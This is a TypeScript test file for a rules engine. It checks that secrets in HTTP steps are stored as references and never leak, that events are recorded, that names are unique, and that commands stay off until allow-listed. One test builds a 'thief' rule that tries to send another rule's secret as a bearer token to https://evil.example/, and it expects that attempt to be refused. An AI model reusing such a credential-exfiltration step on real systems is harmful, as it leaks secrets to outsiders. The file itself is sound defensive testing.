import { expect, test } from 'vitest';
import { asInput, BY, ruleInput, startRules } from '../../helpers/rules.ts';

const secret = 'hunter2 is "no" p\u00e4ssword';
const withSecret = {
  action: 'http',
  config: { url: 'https://example.com/', username: 'me', password: secret, headers: [{ name: 'X-Key', secret }] },
};

test('a saved rule shows references in place of secrets, keeps them when it comes back, and leaves no text anywhere', async () => {
  const engine = await startRules({ start: false });
  const rule = await engine.save({ triggers: ['upload'], steps: [withSecret] });
  const config = rule.steps[0]?.config;
  expect(config).toMatchObject({ password: { secret: 1 }, headers: [{ secret: { secret: 2 } }] });
  const second = await engine.rules.save({ ...asInput(rule), description: 'changed' }, BY);
  expect(second).toMatchObject({ version: 2, problems: [], enabled: true });
  expect(second.steps[0]?.config).toEqual(config);
  expect(JSON.stringify([rule, second, engine.rules.list(), await engine.recorded()])).not.toContain('hunter2');
});

test('secrets of a configuration that is not valid are sealed too', async () => {
  const engine = await startRules({ start: false });
  const rule = await engine.save({
    triggers: ['upload'],
    steps: [
      { action: 'http', config: { url: 7, password: secret, headers: 'none' } },
      { action: 'htpp', config: { url: 'https://example.com/', bearerToken: secret, headers: [{ secret }] } },
    ],
  });
  expect(rule).toMatchObject({ enabled: false });
  expect(JSON.stringify(rule)).not.toContain('hunter2');
});

test('a reference to a secret of something else is refused, so that no rule can send it away', async () => {
  const engine = await startRules({ start: false });
  await engine.save({ triggers: ['upload'], steps: [withSecret] });
  const thief = (id?: number) =>
    engine.save({
      ...(id === undefined ? {} : { id }),
      name: 'thief',
      triggers: ['upload'],
      steps: [{ action: 'http', config: { url: 'https://evil.example/', bearerToken: { secret: 1 } } }],
    });
  const first = await thief();
  expect(first.problems.map(({ field }) => field)).toEqual(['steps.0.config.bearerToken']);
  expect(first.steps[0]?.config['bearerToken']).toBe('');
  expect((await thief(first.id)).problems.map(({ field }) => field)).toEqual(['steps.0.config.bearerToken']);
});

test('saving and deleting are events of the rule', async () => {
  const engine = await startRules({ start: false });
  const rule = await engine.save({ name: 'First', triggers: ['upload'], steps: [withSecret] });
  await engine.save({ id: rule.id, name: 'Second', triggers: ['upload'], steps: [withSecret] });
  expect(await engine.rules.delete(rule.id, BY)).toMatchObject({ id: rule.id, name: 'Second', version: 2 });
  const changed = (name: string): object => expect.objectContaining({ name, steps: expect.any(Array) as unknown }) as object;
  expect(
    (await engine.recorded()).map((event) => [
      event.type,
      event.schema,
      event.objecttype,
      event.object_id,
      event.object_version,
      event.info,
    ]),
  ).toEqual([
    ['OBJECT_INSERT', 'BASE', 'rule', 1, 1, { operation: 'create', new: 'First' }],
    ['OBJECT_UPDATE', 'BASE', 'rule', 1, 2, { operation: 'update', old: changed('First'), new: changed('Second') }],
    ['OBJECT_DELETE', 'BASE', 'rule', 1, 2, { operation: 'delete', old: 'Second' }],
  ]);
  expect(engine.rules.list()).toEqual([]);
  await expect(engine.rules.delete(rule.id, BY)).rejects.toMatchObject({ code: 'not_found' });
});

test('names are unique in any case, ids have to exist, and the order is that of creation', async () => {
  const engine = await startRules({ start: false });
  const a = await engine.save({ name: 'A', triggers: ['upload'], steps: [withSecret] });
  await engine.save({ name: 'B', triggers: ['upload'], steps: [withSecret] });
  await expect(engine.save({ name: 'a', triggers: ['upload'], steps: [withSecret] })).rejects.toMatchObject({
    code: 'conflict',
    field: 'name',
  });
  await expect(engine.rules.save(ruleInput({ id: 77, triggers: ['upload'], steps: [withSecret] }), BY)).rejects.toMatchObject({
    code: 'not_found',
  });
  await engine.save({ id: a.id, name: 'a', triggers: ['upload'], steps: [withSecret] });
  expect(engine.rules.list().map((rule) => rule.name)).toEqual(['a', 'B']);
});

test('an incomplete rule stays off until it is complete', async () => {
  const engine = await startRules({ start: false });
  const input = { name: 'r', triggers: ['upload'], steps: [{ action: 'command', config: { command: '/opt/scan' } }] };
  const rule = await engine.save(input);
  expect(rule).toMatchObject({ enabled: false, problems: [{ field: 'steps.0.config.command' }] });
  engine.settings.commands.allowed.push('/opt/scan');
  expect(await engine.save({ ...input, id: rule.id })).toMatchObject({ enabled: true, problems: [], version: 2 });
});
